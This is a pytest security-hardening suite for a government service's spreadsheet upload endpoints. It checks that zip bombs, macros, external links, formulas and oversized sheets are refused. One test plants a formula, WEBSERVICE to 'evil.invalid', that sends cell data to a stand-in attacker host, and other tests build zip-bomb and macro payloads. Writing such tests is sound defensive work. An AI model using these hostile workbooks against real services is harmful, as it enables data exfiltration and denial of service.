"""Every upload attack, on both upload paths (the returns template and the client register):
refused with a message that says what to do, memory bounded, nothing saved."""

from __future__ import annotations

import io
import os
import time
from html import unescape

import pytest
from openpyxl import Workbook, load_workbook

from app.clients.spreadsheet import CLIENT_COLUMNS
from tests.conftest import LEAD_GSS, csrf_token
from tests.hardening.conftest import changed_tables, db_snapshot, peak_memory, rezip, workbook_bytes

RETURN_URL = f"/returns/{LEAD_GSS}/2019-07"
CLIENTS_UPLOAD = f"/clients/{LEAD_GSS}/upload"
FILLED = {
    "B8": 14,
    "B9": 3,
    "B10": 21000.5,
    "B11": 1500,
    "B12": 800,
    "B13": 700,
    "B14": 600,
    "B15": 500,
    "B16": 400,
    "B17": 0,
    "B18": 11.5,
    "B19": "Two people housed.",
    "B20": "Void times are long.",
}
GOOD_CLIENT = [
    "HF-1",
    "01/05/2019",
    "02/05/2019",
    "25 to 34",
    "Female",
    "Mental health",
    "2 to 5 years",
    None,
    None,
]
MB = 1024 * 1024


class ReturnsPath:
    name = "returns"
    sheet_part = "xl/worksheets/sheet1.xml"

    def good(self, client) -> bytes:
        workbook = load_workbook(io.BytesIO(client.get(f"{RETURN_URL}/template.xlsx").data))
        for ref, value in FILLED.items():
            workbook["Monthly return"][ref] = value
        return workbook_bytes(workbook)

    def with_formula(self, client) -> bytes:
        workbook = load_workbook(io.BytesIO(self.good(client)))
        workbook["Monthly return"]["B8"] = "=10+4"
        return workbook_bytes(workbook)

    def with_rows(self, client, count: int) -> bytes:
        workbook = load_workbook(io.BytesIO(self.good(client)))
        sheet = workbook["Monthly return"]
        for row in range(30, 30 + count):
            sheet.cell(row=row, column=1, value="padding")
        return workbook_bytes(workbook)

    def upload(self, client, content: bytes, filename="return.xlsx"):
        path = f"{RETURN_URL}/upload"
        return client.post(
            path,
            data={"csrf_token": csrf_token(client, path), "workbook": (io.BytesIO(content), filename)},
            content_type="multipart/form-data",
        )


class ClientsPath:
    name = "clients"
    sheet_part = "xl/worksheets/sheet1.xml"

    def good(self, client) -> bytes:
        return self.with_rows(client, 1)

    def with_formula(self, client) -> bytes:
        workbook = load_workbook(io.BytesIO(self.good(client)))
        workbook["Clients"]["D2"] = "=A1&B1"
        return workbook_bytes(workbook)

    def with_rows(self, client, count: int) -> bytes:
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet("Clients")
        sheet.append(CLIENT_COLUMNS)
        for number in range(count):
            sheet.append([f"HF-{number}", *GOOD_CLIENT[1:]])
        return workbook_bytes(workbook)

    def upload(self, client, content: bytes, filename="clients.xlsx"):
        return client.post(
            CLIENTS_UPLOAD,
            data={
                "csrf_token": csrf_token(client, CLIENTS_UPLOAD),
                "workbook": (io.BytesIO(content), filename),
            },
            content_type="multipart/form-data",
        )


PATHS = [ReturnsPath(), ClientsPath()]


@pytest.fixture(params=PATHS, ids=lambda path: path.name)
def path(request):
    return request.param


@pytest.fixture
def lead(signed_in):
    return signed_in("lead")


def _refused(response, *messages: str) -> str:
    """The page re-shown with a GOV.UK error summary and each message."""
    page = unescape(response.get_data(as_text=True))
    assert response.status_code in (200, 400), response.status_code
    assert "govuk-error-summary" in page
    for message in messages:
        assert message in page, f"{message!r} not on the page"
    return page


def _attack(path, lead, content: bytes, *messages: str, filename: str | None = None) -> int:
    """Upload `content`, check it is refused with the messages and nothing changed;
    return the peak Python memory of the request."""
    return _attack_page(path, lead, content, *messages, filename=filename)[1]


def _attack_page(path, lead, content: bytes, *messages: str, filename: str | None = None):
    before = db_snapshot()
    kwargs = {"filename": filename} if filename else {}
    response, peak = peak_memory(lambda: path.upload(lead, content, **kwargs))
    page = _refused(response, *messages)
    assert changed_tables(before, db_snapshot()) == []
    return page, peak


def test_the_good_file_is_accepted_so_the_refusals_below_are_about_the_attack(path, lead):
    response = path.upload(lead, path.good(lead))
    assert response.status_code == 302, response.get_data(as_text=True)


def test_not_a_zip(path, lead):
    _attack(
        path, lead, b"Name,Date of birth\nJohn Smith,1970-01-01\n", "not a workbook this service can read"
    )
    _attack(path, lead, b"PK\x03\x04" + b"\x00" * 400, "not a workbook this service can read")


def test_zip_bomb_is_refused_from_its_declared_sizes_before_it_is_opened(path, lead):
    good = path.good(lead)
    bomb = rezip(good, big_part=(path.sheet_part, 300 * MB))  # inflates to 300 MB
    assert len(bomb) < 2 * MB
    started = time.perf_counter()
    peak = _attack(path, lead, bomb, "too big once opened")
    assert time.perf_counter() - started < 10
    assert peak < 20 * MB, f"peak {peak / MB:.1f} MB"
    # under the total cap, but one part inflates more than 100 times
    dense = rezip(good, big_part=(path.sheet_part, 20 * MB))
    peak = _attack(path, lead, dense, "expands to far more than its size")
    assert peak < 20 * MB, f"peak {peak / MB:.1f} MB"


def test_formulas_are_refused_by_cell(path, lead):
    page, _ = _attack_page(path, lead, path.with_formula(lead), "formula")
    assert ("Cell B8" in page) if path.name == "returns" else (">D2<" in page)


def test_a_formula_outside_the_cells_read_is_refused_too(path, lead):
    workbook = load_workbook(io.BytesIO(path.good(lead)))
    sheet = workbook["Monthly return" if path.name == "returns" else "Clients"]
    sheet["M2"] = '=WEBSERVICE("http://evil.invalid/?"&B3)'
    page, _ = _attack_page(path, lead, workbook_bytes(workbook), "formula")
    assert ("Cell M2 holds a formula" in page) if path.name == "returns" else (">M2<" in page)


def test_external_links_are_refused(path, lead):
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships"/></externalLink>'
    )
    content = rezip(path.good(lead), add={"xl/externalLinks/externalLink1.xml": link})
    _attack(path, lead, content, "links to other files")


def test_macros_are_refused(path, lead):
    good = path.good(lead)
    with_vba = rezip(good, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 512})
    _attack(path, lead, with_vba, "contains macros")
    import zipfile

    types = zipfile.ZipFile(io.BytesIO(good)).read("[Content_Types].xml")
    macro_types = types.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
    assert macro_types != types
    _attack(path, lead, rezip(good, replace={"[Content_Types].xml": macro_types}), "contains macros")
    _attack(path, lead, good, "must be an Excel workbook (.xlsx)", filename="return.xlsm")


def test_the_wrong_template_is_refused(path, lead):
    other = Workbook()
    other.active.title = "Sheet1"
    other.active.append(["Name", "Date of birth"])
    message = "not the monthly return template" if path.name == "returns" else "needs a sheet named Clients"
    _attack(path, lead, workbook_bytes(other), message)
    if path.name == "clients":
        wrong_columns = Workbook()
        wrong_columns.active.title = "Clients"
        wrong_columns.active.append(["Name", "Date of birth"])
        _attack(path, lead, workbook_bytes(wrong_columns), "Row 1 must name the columns")


def test_ten_thousand_rows_are_refused_quickly(path, lead):
    content = path.with_rows(lead, 10_000)
    started = time.perf_counter()
    message = "has more than 200 rows" if path.name == "returns" else "has more than 2,000 rows"
    peak = _attack(path, lead, content, message)
    # a bound against hanging only (timings belong to the benchmark): refused, not ground through
    assert time.perf_counter() - started < 120
    assert peak < 30 * MB, f"peak {peak / MB:.1f} MB"


def test_a_fifty_megabyte_file_gets_the_govuk_413_page(path, lead):
    token = csrf_token(lead, f"{RETURN_URL}/upload" if path.name == "returns" else CLIENTS_UPLOAD)
    url = f"{RETURN_URL}/upload" if path.name == "returns" else CLIENTS_UPLOAD
    before = db_snapshot()
    response = lead.post(
        url,
        data={"csrf_token": token, "workbook": (io.BytesIO(b"\0" * (50 * MB)), "big.xlsx")},
        content_type="multipart/form-data",
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "govuk-template" in page and "The file is too large" in page
    assert "Upload a file smaller than 5 MB" in page
    assert changed_tables(before, db_snapshot()) == []


def test_a_file_just_over_the_upload_limit_is_refused_with_a_message(path, lead, app):
    app.config["MAX_UPLOAD_BYTES"] = 64 * 1024
    padding = rezip(path.good(lead), add={"docProps/padding.bin": os.urandom(100_000)})
    assert len(padding) > 64 * 1024
    _attack(path, lead, padding, "The file must be smaller than 64 KB")


def _one_row_of_cells(original: bytes, cells: int) -> bytes:
    """The sheet's XML with a row of `cells` numeric cells (random values, so the part
    compresses as an honest file does and passes the zip-bomb checks) before its own rows."""
    import random

    rng = random.Random(15)
    values = [str(rng.randrange(10_000)).encode() for _ in range(cells)]
    row = b'<row r="1000">' + b"".join(b"<c><v>" + value + b"</v></c>" for value in values) + b"</row>"
    start = original.index(b"<sheetData>") + len(b"<sheetData>")
    if b"<sheetData/>" in original:
        return original.replace(b"<sheetData/>", b"<sheetData>" + row + b"</sheetData>")
    return original[:start] + row + original[start:]


def test_one_row_of_a_million_cells_is_refused_within_a_second_and_a_few_mb(path, lead, capsys):
    """Issue 15.5: a 4.39 MB returns upload whose one row held 1.7 million cells took 52 s and
    a gigabyte before it was refused; the cells are now counted as the XML streams by."""
    import zipfile

    good = path.good(lead)
    sheet = zipfile.ZipFile(io.BytesIO(good)).read(path.sheet_part)
    hostile = rezip(good, replace={path.sheet_part: _one_row_of_cells(sheet, 1_700_000)})
    assert 3 * MB < len(hostile) < 5 * MB, f"{len(hostile) / MB:.2f} MB"
    url = f"{RETURN_URL}/upload" if path.name == "returns" else CLIENTS_UPLOAD
    token = csrf_token(lead, url)
    before = db_snapshot()
    started = time.perf_counter()
    response, peak = peak_memory(
        lambda: lead.post(
            url,
            data={"csrf_token": token, "workbook": (io.BytesIO(hostile), "hostile.xlsx")},
            content_type="multipart/form-data",
        )
    )
    seconds = time.perf_counter() - started
    with capsys.disabled():
        size = len(hostile) / MB
        print(
            f"\n{path.name}: {size:.2f} MB, refused in {seconds:.2f} s, peak {peak / MB:.1f} MB (tracemalloc)"
        )
    page = _refused(response, "Row 1000 has more than 1,000 cells", "delete everything outside the table")
    assert "govuk-error-summary" in page
    assert changed_tables(before, db_snapshot()) == []
    assert seconds < 1.0, f"{seconds:.2f} s"
    assert peak < 20 * MB, f"peak {peak / MB:.1f} MB"  # the 4 MB upload is held a few times


@pytest.mark.parametrize(
    ("rows", "columns", "message"),
    [
        (1, 1_001, "Row 1 has more than 1,000 cells"),  # one row too wide
        (300, 900, "The workbook has more than 250,000 cells"),  # each row fine, too many in all
    ],
)
def test_cell_bounds_hold_for_honest_looking_sheets(path, lead, rows, columns, message):
    import zipfile

    from openpyxl.utils import get_column_letter

    good = path.good(lead)
    sheet = zipfile.ZipFile(io.BytesIO(good)).read(path.sheet_part)
    body = b"".join(
        f'<row r="{r}">'.encode()
        + b"".join(
            f'<c r="{get_column_letter(c)}{r}"><v>{r * c}</v></c>'.encode() for c in range(1, columns + 1)
        )
        + b"</row>"
        for r in range(1, rows + 1)
    )
    start = sheet.index(b"<sheetData>") + len(b"<sheetData>")
    end = sheet.index(b"</sheetData>")
    _attack(path, lead, rezip(good, replace={path.sheet_part: sheet[:start] + body + sheet[end:]}), message)


def test_a_declared_dimension_far_beyond_the_table_is_refused(path, lead):
    import zipfile

    good = path.good(lead)
    sheet = zipfile.ZipFile(io.BytesIO(good)).read(path.sheet_part)
    import re as regex

    if b"<dimension " in sheet:
        huge = regex.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', sheet)
    else:  # openpyxl's write-only sheets declare none
        huge = sheet.replace(b"<sheetData", b'<dimension ref="A1:XFD1048576"/><sheetData', 1)
    _attack(
        path, lead, rezip(good, replace={path.sheet_part: huge}), "A sheet reaches as far as cell XFD1048576"
    )
